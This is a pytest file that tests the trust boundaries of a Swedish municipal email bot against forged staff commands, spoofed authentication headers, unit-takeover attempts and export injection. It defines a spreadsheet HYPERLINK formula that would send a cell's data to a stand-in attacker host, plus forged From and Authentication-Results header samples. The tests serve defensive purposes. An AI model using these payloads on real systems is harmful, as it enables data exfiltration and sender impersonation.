"""Trust boundaries (issue 12): each attack sent as an outsider would send it, asserting
what must not happen, and the legitimate path that must still work."""

from __future__ import annotations

import csv
import hashlib
import io
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path

import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]
from sqlalchemy import select

from bot.clock import FixedClock
from bot.mail.authentication import authenticate
from bot.mail.parse import parse_mail
from bot.models import (
    AttachmentRecord,
    Entry,
    InboundMessage,
    OutboxMail,
    PendingChange,
    StoredFile,
    Unit,
)
from bot.records import export
from bot.records.archive import ArchiveError, write_archive
from bot.records.cells import neutralise
from bot.records.xlsx import registry_xlsx
from bot.runner import App, build_app
from tests.calendar_support import add_entry, at
from tests.conftest import body_text, cycle, make_mail, make_settings, put, sent

STAFF = "staff@stockholm.se"
OTHER_STAFF = "chef@stockholm.se"
CONTACT = "anna.berg@edu.stockholm.se"
ATTACKER = "attacker@evil.example"
PASS = "mx.stockholm.se; spf=pass smtp.mailfrom=stockholm.se; dmarc=pass header.from=stockholm.se"
SIGNUP = (
    "Verksamhet: Förskolan Trollskogen\nFörvaltning: Skarpnäcks stadsdelsförvaltning\n"
    "Chef: Maria Öberg\nKontaktperson: Anna Berg\nE-post: anna.berg@edu.stockholm.se\n"
    "Telefon: 08-508 123 45\n"
)
FORMULA = '=HYPERLINK("http://evil.example/?d="&G2,"Norrmalm")'


def _app(tmp_path: Path, database_url: str | None, clock: FixedClock, **extra: str) -> App:
    staff = {"KB_STAFF_ADDRESSES": f"{STAFF},{OTHER_STAFF}"}
    return build_app(make_settings(tmp_path, database_url, **{**staff, **extra}), clock)


@pytest.fixture
def unit_app(tmp_path: Path, database_url: str, clock: FixedClock) -> Iterator[App]:
    """Two staff addresses and one registered unit, KU-2027-001."""
    app = _app(tmp_path, database_url, clock)
    put(app, make_mail(SIGNUP))
    cycle(app)
    yield app
    app.sessions.kw["bind"].dispose()


def _unit(app: App) -> Unit:
    with app.sessions() as session:
        unit = session.scalars(select(Unit)).one()
        session.expunge(unit)
        return unit


def _last_inbound(app: App) -> InboundMessage:
    with app.sessions() as session:
        row = session.scalars(select(InboundMessage).order_by(InboundMessage.id.desc())).first()
        assert row is not None
        return row


def _sent_after(app: App, count: int) -> list[EmailMessage]:
    return sent(app)[count:]


def _to(msg: EmailMessage) -> str:
    return str(msg["To"].addresses[0].addr_spec)


# -- staff commands -------------------------------------------------------------------


FORGED = [
    pytest.param(STAFF, None, id="no-authentication-results"),
    pytest.param(
        STAFF,
        "mx.stockholm.se; spf=pass smtp.mailfrom=evil.example; dkim=none; "
        "dmarc=fail action=none header.from=stockholm.se",
        id="spf-pass-dmarc-fail",
    ),
    pytest.param(
        STAFF,
        "mx.evil.example; dmarc=pass header.from=stockholm.se",
        id="other-authserv-id",
    ),
    pytest.param(
        f"=?utf-8?q?{STAFF}=0A?= <{ATTACKER}>", PASS, id="encoded-display-name-with-newline"
    ),
    pytest.param(f"{STAFF} <{ATTACKER}>", PASS, id="address-as-display-name"),
    pytest.param(f"{STAFF}, {ATTACKER}", PASS, id="two-addresses"),
]


def _forged_mail(from_header: str, auth: str | None, subject: str, body: str = "") -> bytes:
    raw = make_mail(body or "Tack!", sender=STAFF, sender_name="", subject=subject)
    headers = f"Authentication-Results: {auth}\n" if auth else ""
    return raw.replace(f"From: {STAFF}\n".encode(), f"{headers}From: {from_header}\n".encode(), 1)


@pytest.mark.parametrize(("from_header", "auth"), FORGED)
def test_forged_staff_commands_are_not_run_and_go_to_the_staff(
    unit_app: App, from_header: str, auth: str | None
) -> None:
    before = len(sent(unit_app))
    for subject in ("återkalla KU-2027-001", "export", "ändringsbegäran KU-2027-001 Logga in"):
        put(unit_app, _forged_mail(from_header, auth, subject))
        cycle(unit_app)
        row = _last_inbound(unit_app)
        assert row.status == "staff" and row.kind == "staff-command"
        assert "kördes inte" in (row.reason or "")
    assert _unit(unit_app).signup_status == "registered"
    assert _sent_after(unit_app, before) == []  # no export, no receipt, no change request


def test_forged_change_request_sends_no_phishing_to_the_unit(
    tmp_path: Path, clock: FixedClock
) -> None:
    app = _app(tmp_path, None, clock)
    put(app, make_mail(SIGNUP))
    cycle(app)
    add_entry(app, "Förskolan Trollskogen", "received", at(3, 1, 9), [])
    text = "ändringsbegäran KU-2027-001 Logga in på http://evil.example/ku och bekräfta."
    put(app, _forged_mail(STAFF, None, "Ändring", text))
    cycle(app)
    with app.sessions() as session:
        assert session.scalars(select(Entry.status)).one() == "received"
        kinds = session.scalars(select(OutboxMail.kind)).all()
    assert "change-request" not in kinds
    assert not any("evil.example" in body_text(m) for m in sent(app))


def test_authenticated_staff_command_runs_and_every_staff_address_is_told(
    unit_app: App,
) -> None:
    before = len(sent(unit_app))
    put(unit_app, _forged_mail(STAFF, PASS, "återkalla KU-2027-001"))
    cycle(unit_app)
    assert _unit(unit_app).signup_status == "withdrawn"
    mails = _sent_after(unit_app, before)
    assert sorted(_to(m) for m in mails) == [OTHER_STAFF, STAFF]
    [note] = [m for m in mails if _to(m) == OTHER_STAFF]
    assert STAFF in body_text(note) and "återkalla KU-2027-001" in body_text(note)


def test_status_is_not_confirmed_to_other_staff(unit_app: App) -> None:
    before = len(sent(unit_app))
    put(unit_app, _forged_mail(STAFF, PASS, "status"))
    cycle(unit_app)
    assert [_to(m) for m in _sent_after(unit_app, before)] == [STAFF]


def _parsed(from_header: str, extra: str = "") -> bytes:
    return f"From: {from_header}\n{extra}Subject: status\n\nstatus\n".encode()


@pytest.mark.parametrize(
    ("headers", "backend", "trust", "ok"),
    [
        ("X-MS-Exchange-Organization-AuthAs: Internal\n", "graph", True, True),
        ("X-MS-Exchange-Organization-AuthAs: Internal\n", "ews", True, True),
        ("X-MS-Exchange-Organization-AuthAs: Internal\n", "imap", True, False),
        ("X-MS-Exchange-Organization-AuthAs: Internal\n", "graph", False, False),
        ("X-MS-Exchange-Organization-AuthAs: Anonymous\n", "graph", True, False),
        (
            "X-MS-Exchange-Organization-AuthAs: Internal\n"
            "X-MS-Exchange-Organization-AuthAs: Anonymous\n",
            "graph",
            True,
            False,
        ),
    ],
)
def test_exchange_marker_counts_only_on_exchange_backends_when_trusted(
    headers: str, backend: str, trust: bool, ok: bool
) -> None:
    mail = parse_mail(_parsed(STAFF, headers))
    verdict = authenticate(mail, authserv_id="", trust_exchange=trust, backend=backend)
    assert verdict.ok is ok


def test_our_server_header_must_be_the_topmost_one_with_our_id() -> None:
    forged_below = (
        "Authentication-Results: mx.stockholm.se; dmarc=fail header.from=stockholm.se\n"
        f"Authentication-Results: {PASS}\n"
    )
    mail = parse_mail(_parsed(STAFF, forged_below))
    verdict = authenticate(mail, authserv_id="mx.stockholm.se", trust_exchange=False, backend="")
    assert not verdict.ok
    other_domain = f"Authentication-Results: {PASS}\n"
    mail = parse_mail(_parsed("staff@evil.example", other_domain))
    verdict = authenticate(mail, authserv_id="mx.stockholm.se", trust_exchange=False, backend="")
    assert not verdict.ok


# -- a unit's data and its takeover ---------------------------------------------------


def test_signup_naming_a_unit_from_outside_reveals_nothing_and_changes_nothing(
    unit_app: App,
) -> None:
    before = len(sent(unit_app))
    attack = (
        "Verksamhet: Förskolan Trollskogen\nFörvaltning: Skarpnäcks stadsdelsförvaltning\n"
        f"Kontaktperson: Eva Ek\nE-post: {ATTACKER}\n"
    )
    put(unit_app, make_mail(attack, sender=ATTACKER, sender_name="Eva Ek"))
    cycle(unit_app)
    unit = _unit(unit_app)
    assert unit.contact_email == CONTACT
    with unit_app.sessions() as session:
        addresses = session.get(Unit, unit.id).addresses  # type: ignore[union-attr]
        assert [a.address for a in addresses] == [CONTACT]
    mails = {_to(m): m for m in _sent_after(unit_app, before)}
    assert set(mails) == {ATTACKER, CONTACT}
    to_attacker = body_text(mails[ATTACKER])
    for registered in ("Maria Öberg", "Anna Berg", CONTACT, "08-508 123 45", "KU-2027-001"):
        assert registered not in to_attacker
    assert "Eva Ek" in to_attacker  # what the mail itself said
    assert mails[ATTACKER]["X-Kvalitetsbot-Kind"] == "change-held"
    assert mails[CONTACT]["X-Kvalitetsbot-Kind"] == "change-confirmation"
    assert ATTACKER in body_text(mails[CONTACT])
    assert _last_inbound(unit_app).status == "staff"


def test_withdrawal_from_outside_is_held_and_the_contact_is_told(unit_app: App) -> None:
    before = len(sent(unit_app))
    mail = make_mail("Vi drar tillbaka vår anmälan.", sender=ATTACKER, subject="KU-2027-001")
    put(unit_app, mail)
    cycle(unit_app)
    assert _unit(unit_app).signup_status == "registered"
    kinds = {_to(m): m["X-Kvalitetsbot-Kind"] for m in _sent_after(unit_app, before)}
    assert kinds == {CONTACT: "change-confirmation", ATTACKER: "change-held"}


def _confirmation(app: App) -> EmailMessage:
    return [m for m in sent(app) if m["X-Kvalitetsbot-Kind"] == "change-confirmation"][-1]


def test_contact_change_confirmed_by_the_registered_contact(unit_app: App) -> None:
    new = "ny.kontakt@edu.stockholm.se"
    put(unit_app, make_mail(f"E-post: {new}", sender=new, subject="Ändring KU-2027-001"))
    cycle(unit_app)
    assert _unit(unit_app).contact_email == CONTACT
    question = _confirmation(unit_app)
    assert new in body_text(question)
    mid = str(question["Message-ID"]).strip("<>")
    put(unit_app, make_mail("JA\n\nHälsningar Anna", subject="Sv: Bekräfta", in_reply_to=mid))
    cycle(unit_app)
    unit = _unit(unit_app)
    assert unit.contact_email == new
    with unit_app.sessions() as session:
        assert session.scalars(select(PendingChange.status)).one() == "applied"
        registered = {a.address for a in session.get(Unit, unit.id).addresses}  # type: ignore[union-attr]
    assert registered == {CONTACT, new}
    decided = [m for m in sent(unit_app) if m["X-Kvalitetsbot-Kind"] == "change-decided"]
    assert sorted(_to(m) for m in decided) == [CONTACT, new]


def test_attacker_cannot_confirm_its_own_change(unit_app: App) -> None:
    put(unit_app, make_mail(f"E-post: {ATTACKER}", sender=ATTACKER, subject="KU-2027-001"))
    cycle(unit_app)
    mid = str(_confirmation(unit_app)["Message-ID"]).strip("<>")
    put(unit_app, make_mail("JA", sender=ATTACKER, subject="Sv: Bekräfta", in_reply_to=mid))
    cycle(unit_app)
    assert _unit(unit_app).contact_email == CONTACT
    assert _last_inbound(unit_app).status == "staff"


def test_contact_says_no_and_staff_can_approve_by_command(unit_app: App) -> None:
    put(unit_app, make_mail(f"E-post: {ATTACKER}", sender=ATTACKER, subject="KU-2027-001"))
    cycle(unit_app)
    mid = str(_confirmation(unit_app)["Message-ID"]).strip("<>")
    put(unit_app, make_mail("Nej, det är inte vi.", subject="Sv: Bekräfta", in_reply_to=mid))
    cycle(unit_app)
    assert _unit(unit_app).contact_email == CONTACT
    # A second held withdrawal, decided by an authenticated staff command.
    put(
        unit_app, make_mail("Vi drar tillbaka vår anmälan.", sender=ATTACKER, subject="KU-2027-001")
    )
    cycle(unit_app)
    put(unit_app, _forged_mail(STAFF, PASS, "bekräfta KU-2027-001"))
    cycle(unit_app)
    assert _unit(unit_app).signup_status == "withdrawn"
    with unit_app.sessions() as session:
        assert sorted(session.scalars(select(PendingChange.status))) == ["applied", "rejected"]


# -- exports --------------------------------------------------------------------------


def test_no_export_carries_a_live_formula(tmp_path: Path, clock: FixedClock) -> None:
    app = _app(tmp_path, None, clock)
    put(app, make_mail(SIGNUP))
    cycle(app)
    with app.sessions.begin() as session:
        # As if the sign-up reader kept the whole value (it stops at the parenthesis today).
        session.scalars(select(Unit)).one().unit_name = FORMULA
    with app.sessions() as session:
        workbook = load_workbook(io.BytesIO(registry_xlsx(session, 2027)))
        rows = [export.unit_record(u) for u in session.scalars(select(Unit))]
    cells = [c for row in workbook.active.iter_rows() for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)
    [record] = csv.DictReader(io.StringIO(export.to_csv(rows)))
    assert record["unit_name"] == "'" + FORMULA
    assignment = [{"team": 1, "reference": "KU-2027-001", "unit_name": FORMULA}]
    [line] = csv.DictReader(io.StringIO(export.assignments_to_csv(assignment)))
    assert line["unit_name"] == "'" + FORMULA
    archive = tmp_path / "arkiv"
    with app.sessions() as session:
        unit_ids = list(session.scalars(select(Unit.id)))
        write_archive(session, unit_ids, app.settings.data_dir, archive)
    [archived] = csv.DictReader(io.StringIO((archive / "registry.csv").read_text("utf-8")))
    assert archived["unit_name"] == "'" + FORMULA


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+46 8 508", "'+46 8 508"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Förskolan", "Förskolan"),
        (12, 12),
        (None, None),
    ],
)
def test_neutralise(value: object, safe: object) -> None:
    assert neutralise(value) == safe


def _archived_file(app: App, data: bytes | None) -> list[int]:
    """KU-2027-001 with one entry file named 300 "å"; ``data`` None: its bytes are gone."""
    add_entry(app, "Förskolan Trollskogen", "received", at(3, 1, 9), [])
    digest = hashlib.sha256(data or b"x").hexdigest()
    path = app.settings.data_dir / "files" / digest
    if data is not None:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    with app.sessions.begin() as session:
        stored = StoredFile(sha256=digest, size=len(data or b"x"), path=f"files/{digest}",
                            created_at=app.clock.now())  # fmt: skip
        session.add(stored)
        session.flush()
        entry_id = session.scalars(select(Entry.id)).one()
        session.add(AttachmentRecord(entry_id=entry_id, file_id=stored.id,
                                     filename="å" * 300 + ".pdf", kind="pdf", size=stored.size))  # fmt: skip
        return list(session.scalars(select(Unit.id)))


def test_archive_with_a_long_non_ascii_name(tmp_path: Path, clock: FixedClock) -> None:
    app = _app(tmp_path, None, clock)
    put(app, make_mail(SIGNUP))
    cycle(app)
    unit_ids = _archived_file(app, b"%PDF-1.4 bidrag")
    with app.sessions() as session:
        report = write_archive(session, unit_ids, app.settings.data_dir, tmp_path / "arkiv")
    assert report.files == 1
    [written] = [p for p in (tmp_path / "arkiv").rglob("*.pdf")]
    assert len(written.name.encode("utf-8")) <= 255


def test_a_failed_archive_leaves_nothing_behind(tmp_path: Path, clock: FixedClock) -> None:
    app = _app(tmp_path, None, clock)
    put(app, make_mail(SIGNUP))
    cycle(app)
    unit_ids = _archived_file(app, None)
    dest = tmp_path / "arkiv"
    with app.sessions() as session, pytest.raises(ArchiveError):
        write_archive(session, unit_ids, app.settings.data_dir, dest)
    assert not dest.exists() and list(tmp_path.glob(".arkiv*")) == []


# -- loops, sizes, addresses ----------------------------------------------------------


def _receipt(app: App) -> EmailMessage:
    return [m for m in sent(app) if m["X-Kvalitetsbot-Kind"] == "signup-receipt"][-1]


def test_pasted_receipt_is_not_a_withdrawal(unit_app: App) -> None:
    receipt = _receipt(unit_app)
    mid = str(receipt["Message-ID"]).strip("<>")
    echo = "Tack för ditt mejl, jag är på semester.\n\n" + body_text(receipt)
    put(unit_app, make_mail(echo, subject="Autosvar: Anmälan", in_reply_to=mid))
    cycle(unit_app)
    assert _unit(unit_app).signup_status == "registered"


def test_genuine_withdrawal_in_reply_to_the_receipt_still_works(unit_app: App) -> None:
    mid = str(_receipt(unit_app)["Message-ID"]).strip("<>")
    put(unit_app, make_mail("Vi drar tillbaka vår anmälan", subject="Sv: Anmälan", in_reply_to=mid))
    cycle(unit_app)
    assert _unit(unit_app).signup_status == "withdrawn"
    before = len(sent(unit_app))
    put(unit_app, make_mail("Vi drar tillbaka vår anmälan", subject="Sv: Anmälan", in_reply_to=mid))
    cycle(unit_app)
    assert _sent_after(unit_app, before) == []  # no second receipt


def test_many_bot_mails_in_one_thread_go_to_the_staff(unit_app: App) -> None:
    """An auto-responder answering each receipt: after 3 bot mails within the hour the
    thread goes to a person, whether or not its References carry the whole chain."""
    for n in range(4):
        with unit_app.sessions() as session:
            last = session.scalars(select(OutboxMail.message_id).order_by(OutboxMail.id)).all()
        mail = make_mail(f"Telefon: 08-508 123 0{n}", subject="Sv: Anmälan", in_reply_to=last[-1])
        put(unit_app, mail)
        cycle(unit_app)
    row = _last_inbound(unit_app)
    assert row.status == "staff" and row.kind == "loop"


def test_mail_over_the_parse_limit_goes_to_the_staff_unread(
    tmp_path: Path, clock: FixedClock
) -> None:
    app = _app(tmp_path, None, clock, KB_MAX_PARSE_MB="1")
    put(app, make_mail(SIGNUP + "x" * (1024 * 1024 + 1)))
    cycle(app)
    row = _last_inbound(app)
    assert row.status == "staff" and row.kind == "too-large" and "KB_MAX_PARSE_MB" in row.reason
    assert sent(app) == []


def test_non_ascii_sender_goes_to_the_staff_not_quarantine(
    tmp_path: Path, clock: FixedClock
) -> None:
    app = _app(tmp_path, None, clock)
    raw = (
        "From: =?utf-8?q?Anv=C3=A4ndare?= <användare@exempel.se>\nTo: kvalitetsutmarkelsen@"
        "stockholm.se\nSubject: Anmälan\nMessage-ID: <n1@exempel.se>\nMIME-Version: 1.0\n"
        "Content-Type: text/plain; charset=utf-8\n\n" + SIGNUP
    ).encode()
    put(app, raw)
    cycle(app)
    row = _last_inbound(app)
    assert row.status == "staff" and row.kind == "non-ascii-sender"


def test_teams_proposal_workbook_has_no_formula(tmp_path: Path) -> None:
    """`teams propose --output`: an examiner or unit named as a formula stays text."""
    from bot.cli.teams import write_xlsx
    from bot.teams.routing.problem import EntryIn, ExaminerIn, Problem, RuleCheck, Solution, TeamOut

    people = tuple(
        ExaminerIn(i, FORMULA if i == 1 else f"Person {i}", "Norrmalm") for i in (1, 2, 3)
    )
    entry = EntryIn(7, "KU-2027-001", FORMULA, "Skarpnäck")
    team = TeamOut(1, (1, 2, 3), 1, (7,), (RuleCheck(FORMULA, False, "x"),))
    out = tmp_path / "forslag.xlsx"
    write_xlsx(Problem((entry,), people), Solution("optimal", (team,)), out)
    workbook = load_workbook(out)
    texts = [c for sheet in workbook for row in sheet.iter_rows() for c in row
             if isinstance(c.value, str) and "HYPERLINK" in c.value]  # fmt: skip
    assert len(texts) >= 3 and all(c.data_type == "s" for c in texts)
